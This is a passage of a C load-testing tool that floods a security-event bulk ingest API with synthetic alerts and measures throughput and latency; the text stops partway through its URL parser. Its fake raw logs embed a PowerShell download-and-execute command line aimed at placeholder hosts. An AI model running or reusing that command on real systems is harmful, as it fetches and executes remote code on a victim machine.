/* Bulk-ingest load generator: N threads, each on one keep-alive HTTP/1.1 connection, post
 * batches of realistic security events and measure the ack rate, the ack latency and the
 * end-to-end stored rate (first request sent to backlog drained). Plain libc + pthreads. */
#include <errno.h>
#include <inttypes.h>
#include <limits.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define BULK_PATH          "/api/v2.0/event/_bulk"
#define STATS_PATH         "/api/v2.0/event/queue_stats"
#define MAX_RESPONSE_BYTES (16u * 1024 * 1024)  /* a response larger than this is an error */
#define MAX_BODY_BYTES     (256u * 1024 * 1024) /* request body buffer bound */
#define MAX_LATENCIES      (8u * 1024 * 1024)   /* per-thread latency samples kept */

/* ---------------------------------------------------------------------------------------- */
/* Options and shared state                                                                  */

struct options {
    char host[256];
    char port[16];
    char host_header[300];
    const char *key;
    int connections;
    int batch;
    int64_t events;    /* total to send; 0 with --duration: unbounded */
    double duration_s; /* 0: until --events are sent */
    uint64_t seed;
    double drain_timeout_s;
    double io_timeout_s;
    int retry_429;
    int no_drain;
    char ref_prefix[96];
};

struct shared {
    const struct options *opt;
    _Atomic int64_t next_batch; /* batch index claimed by the threads */
    _Atomic int stop;           /* set on the first failure or when the duration is over */
    double start_s;             /* monotonic time the load started */
    double deadline_s;          /* monotonic; 0: none */
    pthread_mutex_t err_lock;
    char first_error[512];
};

struct thread_result {
    int64_t requests;
    int64_t requests_ok;
    int64_t events_sent;
    int64_t events_accepted;
    int64_t events_rejected;
    int64_t throttled; /* 429 answers (retried with --retry-429) */
    int64_t reconnects;
    int64_t failures;
    int64_t bytes_sent;
    double *lat_ms; /* per-request ack latency */
    size_t nlat, lat_cap;
    double last_done_s;
};

struct thread_arg {
    struct shared *sh;
    int index;
    pthread_t tid;
    struct thread_result res;
};

static double mono_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void record_error(struct shared *sh, const char *fmt, ...)
    __attribute__((format(printf, 2, 3)));

static void record_error(struct shared *sh, const char *fmt, ...)
{
    char msg[512];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(msg, sizeof msg, fmt, ap);
    va_end(ap);
    pthread_mutex_lock(&sh->err_lock);
    if (sh->first_error[0] == '\0')
        snprintf(sh->first_error, sizeof sh->first_error, "%s", msg);
    pthread_mutex_unlock(&sh->err_lock);
    fprintf(stderr, "loadgen: %s\n", msg);
}

/* ---------------------------------------------------------------------------------------- */
/* Growable byte buffer with a hard maximum                                                  */

struct buf {
    char *p;
    size_t len, cap, max;
    int overflow;
};

static int buf_reserve(struct buf *b, size_t extra)
{
    if (b->overflow)
        return -1;
    if (b->len + extra + 1 <= b->cap)
        return 0;
    size_t want = b->cap ? b->cap : 4096;
    while (want < b->len + extra + 1)
        want *= 2;
    if (want > b->max) {
        if (b->len + extra + 1 > b->max) {
            b->overflow = 1;
            return -1;
        }
        want = b->max;
    }
    char *np = realloc(b->p, want);
    if (np == NULL) {
        b->overflow = 1;
        return -1;
    }
    b->p = np;
    b->cap = want;
    return 0;
}

static void buf_add(struct buf *b, const char *s, size_t n)
{
    if (buf_reserve(b, n) != 0)
        return;
    memcpy(b->p + b->len, s, n);
    b->len += n;
    b->p[b->len] = '\0';
}

static void buf_adds(struct buf *b, const char *s)
{
    buf_add(b, s, strlen(s));
}

static void buf_printf(struct buf *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void buf_printf(struct buf *b, const char *fmt, ...)
{
    char tmp[1024];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(tmp, sizeof tmp, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if ((size_t)n >= sizeof tmp)
        n = (int)sizeof tmp - 1; /* callers only format short fields */
    buf_add(b, tmp, (size_t)n);
}

/* Appends s as the inside of a JSON string (quotes and backslashes escaped). */
static void buf_add_json_escaped(struct buf *b, const char *s, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)s[i];
        if (c == '"' || c == '\\') {
            char e[2] = {'\\', (char)c};
            buf_add(b, e, 2);
        } else if (c < 0x20) {
            buf_printf(b, "\\u%04x", c);
        } else {
            buf_add(b, &s[i], 1);
        }
    }
}

/* ---------------------------------------------------------------------------------------- */
/* Event generation: the shape of Reflex's tools/load_test.py and of agent-collected alerts  */

static uint64_t rng_next(uint64_t *s)
{
    /* splitmix64: fast, good enough for picking values */
    uint64_t z = (*s += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

static unsigned rng_below(uint64_t *s, unsigned n)
{
    return (unsigned)(rng_next(s) % n);
}

/* Skewed pick in [0, n): small indexes are much more frequent, as real alert streams are
 * dominated by a few noisy rules, users and hosts. */
static unsigned rng_skewed(uint64_t *s, unsigned n)
{
    double u = (double)(rng_next(s) >> 11) / 9007199254740992.0;
    unsigned v = (unsigned)((double)n * u * u * u);
    return v < n ? v : n - 1;
}

static const char *const titles[] = {
    "Suspicious PowerShell Execution",
    "Multiple Failed Logons",
    "New Service Installed",
    "Possible Credential Dumping via LSASS Access",
    "Outbound Connection to Rare Domain",
    "User Added to Privileged Group",
    "Scheduled Task Created",
    "Office Application Spawned Shell",
    "RDP Logon From External Address",
    "Antivirus Detection: Trojan",
    "DNS Query to Newly Registered Domain",
    "Account Lockout",
    "Audit Log Cleared",
    "Encoded Command Line",
    "Lateral Movement via PsExec",
    "Unusual Parent Process",
    "Large Outbound Data Transfer",
    "Password Spray Detected",
    "WMI Persistence",
    "Mimikatz Command Line",
};
#define NTITLES (sizeof titles / sizeof titles[0])

static const char *const processes[] = {
    "powershell.exe", "cmd.exe",    "rundll32.exe", "wmic.exe",  "svchost.exe",  "winword.exe",
    "excel.exe",      "psexec.exe", "schtasks.exe", "mshta.exe", "regsvr32.exe", "certutil.exe",
};
#define NPROCESSES (sizeof processes / sizeof processes[0])

static const char *const sources[] = {"Winlog", "Sysmon", "CrowdStrike", "Defender", "Zeek"};
#define NSOURCES (sizeof sources / sizeof sources[0])

static const char *const tag_pool[] = {
    "windows",
    "t1059",
    "t1003",
    "t1078",
    "t1110",
    "t1021",
    "t1053",
    "persistence",
    "credential-access",
    "execution",
    "lateral-movement",
    "exfiltration",
    "prod",
    "dmz",
};
#define NTAGS (sizeof tag_pool / sizeof tag_pool[0])

static const char *const tlds[] = {"com", "net", "org", "io", "xyz", "top", "ru", "info"};
#define NTLDS (sizeof tlds / sizeof tlds[0])

/* A 32-hex-digit digest of the parts (two splitmix rounds over FNV-1a): the shape of the md5
 * signature an agent computes from title, user and host; the server re-hashes it anyway. */
static void signature_hex(const char *title, unsigned user, unsigned host, char out[33])
{
    uint64_t h = 0xcbf29ce484222325ull;
    for (const char *p = title; *p; p++)
        h = (h ^ (unsigned char)*p) * 0x100000001b3ull;
    h = (h ^ user) * 0x100000001b3ull;
    h = (h ^ ((uint64_t)host << 20)) * 0x100000001b3ull;
    uint64_t s = h;
    uint64_t a = rng_next(&s), b = rng_next(&s);
    snprintf(out, 33, "%016" PRIx64 "%016" PRIx64, a, b);
}

static void iso_time(time_t t, unsigned ms, char out[32])
{
    struct tm tm;
    gmtime_r(&t, &tm);
    size_t n = strftime(out, 32, "%Y-%m-%dT%H:%M:%S", &tm);
    snprintf(out + n, 32 - n, ".%03uZ", ms % 1000u);
}

/* The values one event is made of, drawn once and shared by the event and its raw_log. */
struct pick {
    unsigned ti, user, host, src_ip, dst_ip, proc, domain, severity, tlp, pid;
    char when[32], sig[33], sha[65];
    char src[16], dst[16]; /* dotted IPv4 */
};

static void pick_values(struct pick *k, uint64_t *rng)
{
    k->ti = rng_skewed(rng, NTITLES);
    k->user = rng_skewed(rng, 120);
    /* users mostly alert on their own workstation, so signatures repeat as in real feeds */
    k->host = rng_below(rng, 5) ? k->user % 60 : rng_skewed(rng, 60);
    k->src_ip = rng_skewed(rng, 2000);
    k->dst_ip = rng_below(rng, 60000);
    k->proc = rng_skewed(rng, NPROCESSES);
    k->domain = rng_skewed(rng, 3000);
    k->severity = 1 + rng_skewed(rng, 4);
    k->tlp = rng_below(rng, 4);
    k->pid = 1000 + rng_below(rng, 60000);
    iso_time(time(NULL) - (time_t)rng_below(rng, 3600), rng_below(rng, 1000), k->when);
    signature_hex(titles[k->ti], k->user, k->host, k->sig);
    uint64_t hs = ((uint64_t)k->proc << 32) ^ k->host ^ 0x5a5a;
    snprintf(k->sha, sizeof k->sha, "%016" PRIx64 "%016" PRIx64 "%016" PRIx64 "%016" PRIx64,
             rng_next(&hs), rng_next(&hs), rng_next(&hs), rng_next(&hs));
    snprintf(k->src, sizeof k->src, "172.%u.%u.%u", 16 + k->src_ip % 16, (k->src_ip / 16) % 256,
             1 + k->src_ip % 250);
    snprintf(k->dst, sizeof k->dst, "%u.%u.%u.%u", 20 + k->dst_ip % 200, (k->dst_ip / 200) % 256,
             (k->dst_ip / 7) % 256, 1 + k->dst_ip % 250);
}

/* raw_log: the source document (400-800 bytes of JSON) into raw. */
static void gen_raw_log(struct buf *raw, const struct pick *k, uint64_t *rng)
{
    const char *tld = tlds[k->domain % NTLDS];
    raw->len = 0;
    buf_printf(raw,
               "{\"@timestamp\":\"%s\",\"event\":{\"code\":%u,\"provider\":\"%s\","
               "\"kind\":\"alert\",\"severity\":%u},",
               k->when, 4600 + k->ti * 7, sources[k->ti % NSOURCES], k->severity);
    buf_printf(raw, "\"host\":{\"name\":\"WS-%04u\",\"ip\":[\"10.%u.%u.%u\"]},", k->host,
               10 + k->host % 40, (k->host * 7) % 250, 1 + k->host % 250);
    buf_printf(raw, "\"user\":{\"name\":\"user%03u\",\"domain\":\"CORP\"},", k->user);
    buf_printf(raw, "\"process\":{\"pid\":%u,\"name\":\"%s\"", k->pid, processes[k->proc]);
    if (rng_below(rng, 2))
        buf_printf(raw,
                   ",\"command_line\":\"%s -nop -w hidden -c IEX(New-Object Net.WebClient)."
                   "DownloadString('http://cdn%u.example.%s/a')\"",
                   processes[k->proc], k->domain, tld);
    if (rng_below(rng, 2))
        buf_printf(raw, ",\"hash\":{\"sha256\":\"%s\"}", k->sha);
    buf_printf(raw,
               "},\"source\":{\"ip\":\"%s\",\"port\":%u},\"destination\":{\"ip\":\"%s\","
               "\"port\":%u,\"domain\":\"cdn%u.example.%s\"}",
               k->src, 49152 + k->pid % 16000, k->dst, (k->dst_ip % 3) ? 443 : 80, k->domain, tld);
    if (rng_below(rng, 2))
        buf_adds(raw, ",\"agent\":{\"type\":\"winlogbeat\",\"version\":\"8.11.1\"},"
                      "\"ecs\":{\"version\":\"8.0.0\"}");
    buf_adds(raw, "}");
}

/* 3-6 observables, "auto" for most of them like the reference's load test. */
static void gen_observables(struct buf *b, const struct pick *k, uint64_t *rng)
{
    unsigned nobs = 3 + rng_below(rng, 4);
    buf_adds(b, "\"observables\":[");
    buf_printf(b,
               "{\"value\":\"user%03u\",\"data_type\":\"user\",\"tags\":[\"source-user\"],"
               "\"source_field\":\"user.name\"},",
               k->user);
    buf_printf(b, "{\"value\":\"WS-%04u\",\"data_type\":\"host\"},", k->host);
    buf_printf(b, "{\"value\":\"%s\",\"data_type\":\"auto\"}", k->src);
    if (nobs > 3)
        buf_printf(b, ",{\"value\":\"%s\",\"data_type\":\"ip\",\"ioc\":%s}", k->dst,
                   rng_below(rng, 50) == 0 ? "true" : "false");
    if (nobs > 4)
        buf_printf(b, ",{\"value\":\"cdn%u.example.%s\",\"data_type\":\"auto\"}", k->domain,
                   tlds[k->domain % NTLDS]);
    if (nobs > 5)
        buf_printf(b, ",{\"value\":\"%s\",\"data_type\":\"auto\"}", k->sha);
    buf_adds(b, "]");
}

/* Appends one event object for global event number seq to b (raw is scratch space). */
static void gen_event(struct buf *b, const struct options *opt, uint64_t seq, uint64_t *rng,
                      struct buf *raw)
{
    struct pick k;
    pick_values(&k, rng);
    gen_raw_log(raw, &k, rng);
    buf_printf(b, "{\"title\":\"%s\",\"description\":\"%s on WS-%04u by user%03u\",", titles[k.ti],
               titles[k.ti], k.host, k.user);
    buf_printf(b, "\"reference\":\"%s-%" PRIu64 "\",", opt->ref_prefix, seq);
    buf_printf(b, "\"tags\":[\"%s\",\"%s\"],", tag_pool[k.ti % NTAGS],
               tag_pool[rng_skewed(rng, NTAGS)]);
    buf_printf(b,
               "\"severity\":%u,\"tlp\":%u,\"source\":\"%s\",\"signature\":\"%s\","
               "\"original_date\":\"%s\",",
               k.severity, k.tlp, sources[k.ti % NSOURCES], k.sig, k.when);
    gen_observables(b, &k, rng);
    buf_adds(b, ",\"raw_log\":\"");
    buf_add_json_escaped(b, raw->p, raw->len);
    buf_adds(b, "\"}");
}

/* ---------------------------------------------------------------------------------------- */
/* A minimal HTTP/1.1 client on one keep-alive connection                                    */

struct conn {
    int fd;
    struct buf in; /* bytes read but not yet consumed */
    int reused;    /* at least one response was read on this connection */
};

struct response {
    int status;
    int close;         /* server asked to close */
    int retry_after_s; /* Retry-After header, -1 if absent */
    struct buf body;
};

static int conn_open(struct conn *c, const struct options *opt)
{
    struct addrinfo hints, *res = NULL, *ai;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    int rc = getaddrinfo(opt->host, opt->port, &hints, &res);
    if (rc != 0) {
        fprintf(stderr, "loadgen: %s:%s: %s\n", opt->host, opt->port, gai_strerror(rc));
        return -1;
    }
    c->fd = -1;
    for (ai = res; ai; ai = ai->ai_next) {
        int fd = socket(ai->ai_family, ai->ai_socktype | SOCK_CLOEXEC, ai->ai_protocol);
        if (fd < 0)
            continue;
        if (connect(fd, ai->ai_addr, ai->ai_addrlen) == 0) {
            c->fd = fd;
            break;
        }
        close(fd);
    }
    freeaddrinfo(res);
    if (c->fd < 0)
        return -1;
    int one = 1;
    setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    struct timeval tv;
    tv.tv_sec = (time_t)opt->io_timeout_s;
    tv.tv_usec = (suseconds_t)((opt->io_timeout_s - (double)tv.tv_sec) * 1e6);
    setsockopt(c->fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(c->fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    c->in.len = 0;
    c->reused = 0;
    return 0;
}

static void conn_close(struct conn *c)
{
    if (c->fd >= 0)
        close(c->fd);
    c->fd = -1;
    c->in.len = 0;
}

static int send_all(int fd, const char *p, size_t n)
{
    while (n > 0) {
        ssize_t w = send(fd, p, n, MSG_NOSIGNAL);
        if (w < 0) {
            if (errno == EINTR)
                continue;
            return -1;
        }
        p += w;
        n -= (size_t)w;
    }
    return 0;
}

/* Reads more bytes into c->in. Returns bytes read, 0 on EOF, -1 on error or timeout. */
static ssize_t conn_fill(struct conn *c)
{
    if (buf_reserve(&c->in, 65536) != 0)
        return -1;
    for (;;) {
        ssize_t r = recv(c->fd, c->in.p + c->in.len, c->in.cap - c->in.len - 1, 0);
        if (r < 0 && errno == EINTR)
            continue;
        if (r > 0) {
            c->in.len += (size_t)r;
            c->in.p[c->in.len] = '\0';
        }
        return r;
    }
}

static void conn_consume(struct conn *c, size_t n)
{
    memmove(c->in.p, c->in.p + n, c->in.len - n);
    c->in.len -= n;
    c->in.p[c->in.len] = '\0';
}

static const char *find_crlfcrlf(const char *p, size_t n)
{
    for (size_t i = 0; i + 3 < n; i++)
        if (p[i] == '\r' && p[i + 1] == '\n' && p[i + 2] == '\r' && p[i + 3] == '\n')
            return p + i;
    return NULL;
}

/* Case-insensitive header lookup in the header block [h, end); returns the value start. */
static const char *header_value(const char *h, const char *end, const char *name, size_t *out_len)
{
    size_t nl = strlen(name);
    const char *line = h;
    while (line < end) {
        const char *eol = line;
        while (eol < end && *eol != '\r')
            eol++;
        if ((size_t)(eol - line) > nl && line[nl] == ':' && strncasecmp(line, name, nl) == 0) {
            const char *v = line + nl + 1;
            while (v < eol && (*v == ' ' || *v == '\t'))
                v++;
            *out_len = (size_t)(eol - v);
            return v;
        }
        line = eol + 2;
    }
    return NULL;
}

/* Reads exactly n body bytes (after those already buffered) into r->body. */
static int read_exact(struct conn *c, struct response *r, size_t n)
{
    while (c->in.len < n) {
        ssize_t got = conn_fill(c);
        if (got <= 0)
            return -1;
    }
    buf_add(&r->body, c->in.p, n);
    conn_consume(c, n);
    return r->body.overflow ? -1 : 0;
}

static int read_chunked(struct conn *c, struct response *r)
{
    for (;;) {
        char *crlf;
        while ((crlf = strstr(c->in.p ? c->in.p : "", "\r\n")) == NULL) {
            if (conn_fill(c) <= 0)
                return -1;
        }
        size_t size = (size_t)strtoull(c->in.p, NULL, 16);
        conn_consume(c, (size_t)(crlf - c->in.p) + 2);
        if (size == 0) {
            /* trailers, then an empty line */
            for (;;) {
                while ((crlf = strstr(c->in.p ? c->in.p : "", "\r\n")) == NULL) {
                    if (conn_fill(c) <= 0)
                        return -1;
                }
                size_t l = (size_t)(crlf - c->in.p);
                conn_consume(c, l + 2);
                if (l == 0)
                    return 0;
            }
        }
        if (size > MAX_RESPONSE_BYTES || read_exact(c, r, size) != 0)
            return -1;
        while (c->in.len < 2) {
            if (conn_fill(c) <= 0)
                return -1;
        }
        conn_consume(c, 2);
    }
}

/* Sends one request and reads its response into r. Returns 0, or -1 on a transport error
 * (*out_nothing_read tells whether the server closed before sending any response byte, the
 * case of a keep-alive connection the server timed out, where resending is safe). */
static int http_roundtrip(struct conn *c, const struct options *opt, const char *method,
                          const char *path, const char *body, size_t body_len, struct response *r,
                          int *out_nothing_read)
{
    char head[1024];
    int hn = snprintf(head, sizeof head,
                      "%s %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"
                      "User-Agent: sluice-loadgen/1\r\nAccept: application/json\r\n"
                      "Content-Type: application/json\r\nContent-Length: %zu\r\n\r\n",
                      method, path, opt->host_header, opt->key, body_len);
    *out_nothing_read = 1;
    r->status = 0;
    r->close = 0;
    r->retry_after_s = -1;
    r->body.len = 0;
    r->body.overflow = 0;
    if (hn < 0 || (size_t)hn >= sizeof head)
        return -1;
    /* A server may answer (401, 413, 429) before the body is sent and close: the send then
     * fails, but the answer is there to read (RFC 9112 section 9.6). */
    int send_failed =
        send_all(c->fd, head, (size_t)hn) != 0 || send_all(c->fd, body, body_len) != 0;
    if (send_failed && errno != EPIPE && errno != ECONNRESET)
        return -1;

    const char *end;
    while ((end = find_crlfcrlf(c->in.p ? c->in.p : "", c->in.len)) == NULL) {
        if (c->in.len > 65536)
            return -1;
        ssize_t got = conn_fill(c);
        if (got <= 0)
            return -1;
        *out_nothing_read = 0;
    }
    *out_nothing_read = 0;
    if (sscanf(c->in.p, "HTTP/1.%*d %d", &r->status) != 1)
        return -1;
    size_t vl = 0;
    const char *v;
    const char *hstart = strstr(c->in.p, "\r\n") + 2;
    int chunked = 0;
    long long clen = -1;
    if ((v = header_value(hstart, end, "Transfer-Encoding", &vl)) && vl >= 7 &&
        strncasecmp(v, "chunked", 7) == 0)
        chunked = 1;
    if ((v = header_value(hstart, end, "Content-Length", &vl)))
        clen = strtoll(v, NULL, 10);
    if ((v = header_value(hstart, end, "Connection", &vl)) && vl >= 5 &&
        strncasecmp(v, "close", 5) == 0)
        r->close = 1;
    if ((v = header_value(hstart, end, "Retry-After", &vl)))
        r->retry_after_s = atoi(v);
    if (strncmp(c->in.p, "HTTP/1.0", 8) == 0)
        r->close = 1;
    conn_consume(c, (size_t)(end - c->in.p) + 4);

    int rc;
    if (chunked)
        rc = read_chunked(c, r);
    else if (clen >= 0)
        rc = clen > (long long)MAX_RESPONSE_BYTES ? -1 : read_exact(c, r, (size_t)clen);
    else {
        /* no length: the body runs to the end of the connection */
        r->close = 1;
        for (;;) {
            ssize_t got = conn_fill(c);
            if (got < 0)
                return -1;
            if (got == 0)
                break;
        }
        rc = read_exact(c, r, c->in.len);
    }
    if (send_failed)
        r->close = 1; /* the server stopped reading: this connection is done */
    if (rc == 0)
        c->reused = 1;
    return rc;
}

/* Finds "key": <integer> in a JSON text at or after from; returns 0 and the value. */
static int json_int_after(const char *json, const char *from, const char *key, int64_t *out)
{
    char pat[64];
    snprintf(pat, sizeof pat, "\"%s\"", key);
    const char *p = strstr(from ? from : json, pat);
    if (p == NULL)
        return -1;
    p += strlen(pat);
    while (*p == ' ' || *p == '\t' || *p == '\n' || *p == '\r')
        p++;
    if (*p != ':')
        return -1;
    p++;
    while (*p == ' ' || *p == '\t' || *p == '\n' || *p == '\r')
        p++;
    char *e;
    errno = 0;
    long long v = strtoll(p, &e, 10);
    if (e == p || errno)
        return -1;
    *out = v;
    return 0;
}

/* Counts the objects of the "rejected" array of an ingest answer ({"index": ...} each). */
static int64_t count_rejected(const char *json)
{
    const char *p = strstr(json, "\"rejected\"");
    if (p == NULL)
        return 0;
    p = strchr(p, '[');
    if (p == NULL)
        return 0;
    int64_t n = 0;
    for (p++; *p && *p != ']';) {
        const char *idx = strstr(p, "\"index\"");
        const char *close = strchr(p, ']');
        if (idx == NULL || (close && close < idx))
            break;
        n++;
        p = idx + 7;
    }
    return n;
}

/* ---------------------------------------------------------------------------------------- */
/* Load threads                                                                              */

static void add_latency(struct thread_result *res, double ms)
{
    if (res->nlat == res->lat_cap) {
        if (res->lat_cap >= MAX_LATENCIES)
            return;
        size_t nc = res->lat_cap ? res->lat_cap * 2 : 4096;
        double *np = realloc(res->lat_ms, nc * sizeof *np);
        if (np == NULL)
            return;
        res->lat_ms = np;
        res->lat_cap = nc;
    }
    res->lat_ms[res->nlat++] = ms;
}

/* How long to back off after a 429: the server's Retry-After, capped at 1 s because the
 * backlog of a healthy server drains in well under that; 100 ms without a header. */
static int64_t retry_after_ms(const struct response *r)
{
    if (r->retry_after_s < 0)
        return 100;
    return r->retry_after_s >= 1 ? 1000 : 100;
}

/* One load thread's state: its connection and its reusable buffers. */
struct load_ctx {
    struct shared *sh;
    struct thread_result *res;
    struct conn c;
    struct response r;
    struct buf body, raw;
    uint64_t rng;
};

/* Claims the next batch: returns its size (0 when every event is claimed or the run is over)
 * and its first event number in *out_first. */
static int64_t claim_batch(struct shared *sh, int64_t *out_first)
{
    const struct options *opt = sh->opt;
    if (atomic_load(&sh->stop))
        return 0;
    if (sh->deadline_s > 0 && mono_s() >= sh->deadline_s) {
        atomic_store(&sh->stop, 1);
        return 0;
    }
    int64_t first = atomic_fetch_add(&sh->next_batch, 1) * opt->batch;
    int64_t n = opt->batch;
    if (opt->events > 0) {
        if (first >= opt->events)
            return 0;
        if (first + n > opt->events)
            n = opt->events - first;
    }
    *out_first = first;
    return n;
}

static int build_body(struct load_ctx *x, int64_t first, int64_t n)
{
    x->body.len = 0;
    buf_adds(&x->body, "{\"events\":[");
    for (int64_t i = 0; i < n; i++) {
        if (i)
            buf_adds(&x->body, ",");
        gen_event(&x->body, x->sh->opt, (uint64_t)(first + i), &x->rng, &x->raw);
    }
    buf_adds(&x->body, "]}");
    return x->body.overflow ? -1 : 0;
}

/* Counts the answer to a batch of n events that got 200. */
static void count_ok(struct load_ctx *x, int64_t n, double latency_s, double done_s)
{
    const char *json = x->r.body.p ? x->r.body.p : "";
    int64_t acc = 0, rejected = count_rejected(json);
    if (json_int_after(json, NULL, "accepted", &acc) != 0)
        acc = n - rejected;
    add_latency(x->res, latency_s * 1000.0);
    x->res->requests_ok++;
    x->res->events_sent += n;
    x->res->events_accepted += acc;
    x->res->events_rejected += rejected;
    x->res->last_done_s = done_s;
}

/* Posts the batch in x->body (n events) until it is answered. Returns 0 on a 200, -1 when the
 * run must stop (the error is recorded). */
static int post_batch(struct load_ctx *x, int64_t n)
{
    const struct options *opt = x->sh->opt;
    double give_up = mono_s() + opt->io_timeout_s; /* bounds the 429 retries of one batch */
    for (int attempt = 0;; attempt++) {
        if (x->c.fd < 0) {
            if (conn_open(&x->c, opt) != 0) {
                record_error(x->sh, "connect to %s:%s failed: %s", opt->host, opt->port,
                             strerror(errno));
                return -1;
            }
            if (attempt > 0 || x->res->requests > 0)
                x->res->reconnects++;
        }
        int was_reused = x->c.reused, nothing = 0;
        double t0 = mono_s();
        int rc =
            http_roundtrip(&x->c, opt, "POST", BULK_PATH, x->body.p, x->body.len, &x->r, &nothing);
        double t1 = mono_s();
        if (rc != 0) {
            int err = errno;
            conn_close(&x->c);
            /* A keep-alive connection the server closed before answering: resend once on a
             * new one (safe: ingest is idempotent by reference). */
            if (nothing && was_reused && attempt == 0)
                continue;
            record_error(x->sh, "request failed (transport: %s)", strerror(err));
            return -1;
        }
        x->res->requests++;
        x->res->bytes_sent += (int64_t)x->body.len;
        if (x->r.close)
            conn_close(&x->c);
        if (x->r.status == 429 && opt->retry_429) {
            x->res->throttled++;
            if (mono_s() >= give_up) {
                record_error(x->sh, "still 429 after %.0f s of retries (--timeout)",
                             opt->io_timeout_s);
                return -1;
            }
            int64_t ms = retry_after_ms(&x->r);
            struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000};
            nanosleep(&ts, NULL);
            if (atomic_load(&x->sh->stop))
                return -1;
            attempt = -1;
            continue;
        }
        if (x->r.status != 200) {
            record_error(x->sh, "HTTP %d: %.300s", x->r.status, x->r.body.p ? x->r.body.p : "");
            return -1;
        }
        count_ok(x, n, t1 - t0, t1);
        return 0;
    }
}

static void *load_thread(void *p)
{
    struct thread_arg *ta = p;
    struct load_ctx x = {
        .sh = ta->sh,
        .res = &ta->res,
        .c = {.fd = -1, .in = {.max = MAX_RESPONSE_BYTES + 65536}},
        .r = {.body = {.max = MAX_RESPONSE_BYTES}},
        .body = {.max = MAX_BODY_BYTES},
        .raw = {.max = 1u << 20},
        .rng = ta->sh->opt->seed * 0x9e3779b97f4a7c15ull + (uint64_t)ta->index * 7919 + 1,
    };
    int64_t first = 0, n;
    while ((n = claim_batch(x.sh, &first)) > 0) {
        if (build_body(&x, first, n) != 0) {
            record_error(x.sh, "request body over %u bytes: lower --batch", MAX_BODY_BYTES);
            x.res->failures++;
            atomic_store(&x.sh->stop, 1);
            break;
        }
        if (post_batch(&x, n) != 0) {
            x.res->failures++;
            atomic_store(&x.sh->stop, 1);
            break;
        }
    }
    conn_close(&x.c);
    free(x.c.in.p);
    free(x.r.body.p);
    free(x.body.p);
    free(x.raw.p);
    return NULL;
}

/* ---------------------------------------------------------------------------------------- */
/* queue_stats polling                                                                       */

struct queue_stats {
    int64_t size;
    int64_t stored; /* events.stored; -1 if absent */
};

static int fetch_queue_stats(const struct options *opt, struct queue_stats *out, char *err,
                             size_t errlen)
{
    struct conn c = {.fd = -1, .in = {.max = MAX_RESPONSE_BYTES + 65536}};
    struct response r = {.body = {.max = MAX_RESPONSE_BYTES}};
    int nothing = 0, rc = -1;
    if (conn_open(&c, opt) != 0) {
        snprintf(err, errlen, "connect failed: %s", strerror(errno));
        goto out;
    }
    if (http_roundtrip(&c, opt, "GET", STATS_PATH, "", 0, &r, &nothing) != 0) {
        snprintf(err, errlen, "GET %s failed (transport)", STATS_PATH);
        goto out;
    }
    if (r.status != 200) {
        snprintf(err, errlen, "GET %s: HTTP %d: %.200s", STATS_PATH, r.status,
                 r.body.p ? r.body.p : "");
        goto out;
    }
    const char *json = r.body.p ? r.body.p : "";
    if (json_int_after(json, NULL, "size", &out->size) != 0) {
        snprintf(err, errlen, "queue_stats has no \"size\": %.200s", json);
        goto out;
    }
    out->stored = -1;
    const char *ev = strstr(json, "\"events\"");
    while (ev != NULL) {
        /* the "events" object, not a key inside a worker entry */
        const char *q = ev + 8;
        while (*q == ' ' || *q == ':')
            q++;
        if (*q == '{') {
            json_int_after(json, q, "stored", &out->stored);
            break;
        }
        ev = strstr(ev + 8, "\"events\"");
    }
    rc = 0;
out:
    conn_close(&c);
    free(c.in.p);
    free(r.body.p);
    return rc;
}

/* ---------------------------------------------------------------------------------------- */
/* Main                                                                                      */

static void usage(FILE *f)
{
    fprintf(f, "usage: loadgen --url http://HOST:PORT --key KEY [options]\n"
               "  --connections N     concurrent keep-alive connections, one thread each (4)\n"
               "  --batch N           events per request (500)\n"
               "  --events N          events to send in total (100000; 0 with --duration: no cap)\n"
               "  --duration S        stop sending after S seconds (default: until --events)\n"
               "  --seed S            random seed for event contents (1)\n"
               "  --ref-prefix P      reference prefix (default: lg-<seed>-<time>-<pid>, unique)\n"
               "  --drain-timeout S   wait at most S seconds for the backlog to drain (300)\n"
               "  --timeout S         per-request socket timeout, and how long one batch may\n"
               "                      be retried on 429 (60)\n"
               "  --retry-429         back off and resend on 429 instead of failing\n"
               "  --no-drain          do not wait for the backlog to drain\n"
               "Prints 'key: value' lines; exits 1 on any non-200 or transport error, 2 on bad\n"
               "usage, 3 when the backlog did not drain before the deadline.\n");
}

static int parse_num(const char *name, const char *s, double min, double max, double *out)
{
    char *e;
    errno = 0;
    double v = strtod(s ? s : "", &e);
    if (s == NULL || e == s || *e != '\0' || errno || v < min || v > max) {
        fprintf(stderr, "loadgen: %s=%s: expected a number %g..%g\n", name, s ? s : "(missing)",
                min, max);
        return -1;
    }
    *out = v;
    return 0;
}

static int parse_url(const char *url, struct options *opt)
{
    const char *p = url;
    if (strncmp(p, "http://", 7) != 0) {
        fprintf(stderr, "loadgen: --url %s: expected http://HOST:PORT\n", url);
        return -1;
    }
    p += 7;
    const char *end = p + strcspn(p, "/");
    const char *colon = NULL;
    if (*p == '[') {
